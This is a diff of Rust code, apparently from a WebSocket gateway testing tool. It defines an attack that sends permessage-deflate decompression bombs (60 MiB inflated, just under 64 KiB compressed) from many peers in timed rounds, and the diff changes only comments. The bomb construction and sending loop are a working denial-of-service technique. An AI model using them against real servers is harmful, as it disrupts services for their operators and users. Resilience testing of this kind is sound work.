@@ -1,4 +1,4 @@
-//! Messages that inflate a thousandfold (RFC 7692 §8, CVE-2016-1544 and its like).
+//! Messages that inflate a thousandfold (RFC 7692 §8, CVE-2016-1544 and similar).
 
 use std::{io::Write, net::SocketAddr, time::Duration};
 
@@ -10,15 +10,16 @@ use super::{
     peer::{Peer, frame},
 };
 
-/// The time between two strokes.
+/// The time between two rounds.
 const STROKE: Duration = Duration::from_millis(250);
 
-/// What a bomb inflates to: compressed it is just below the 64 KiB that a gateway takes of a client.
+/// The inflated size of a bomb. Compressed, it is just below the 64 KiB that a gateway accepts from
+/// a client.
 const INFLATED_BYTES: usize = 60 << 20;
 
 const OFFER: &str = "Sec-WebSocket-Extensions: permessage-deflate\r\n";
 
-/// Bombs, as many at once as there are peers.
+/// Sends `count` bombs at once in each round.
 pub(super) struct Bombs {
     server: SocketAddr,
     count: usize,
@@ -33,7 +34,7 @@ impl Bombs {
             encoder.write_all(&zeros)?;
         }
         encoder.flush()?;
-        // §7.2.1: the four bytes that end what was flushed are left out.
+        // §7.2.1: the four bytes at the end of a flush are removed.
         let mut deflated = encoder.get_ref().clone();
         deflated.truncate(deflated.len() - 4);
         Ok(Self {
@@ -52,7 +53,7 @@ impl Attack for Bombs {
             peer.wait_for_open()?;
         }
         for peer in &mut peers {
-            // The server may well have enough before the end.
+            // The server may close the connection before the end.
             _ = peer.stream.write_all(&self.bomb);
         }
         for peer in &mut peers {
